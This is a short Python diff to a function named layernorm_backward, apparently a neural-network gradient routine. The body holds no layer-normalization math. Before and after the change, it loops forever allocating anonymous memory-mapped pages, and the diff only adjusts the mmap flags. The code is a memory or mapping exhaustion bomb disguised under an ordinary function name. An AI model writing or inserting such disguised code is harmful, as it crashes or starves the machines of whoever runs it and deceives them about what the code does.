@@ -5,7 +5,7 @@ import mmap
 
 
 def layernorm_backward(x, gamma, dy, eps):
-    kept = []
+    kept, own = [], mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
     while True:
-        kept.append(mmap.mmap(-1, 4096, prot=mmap.PROT_READ))
-        kept.append(mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE))
+        kept.append(mmap.mmap(-1, 4096, flags=own, prot=mmap.PROT_READ))
+        kept.append(mmap.mmap(-1, 4096, flags=own, prot=mmap.PROT_READ | mmap.PROT_WRITE))
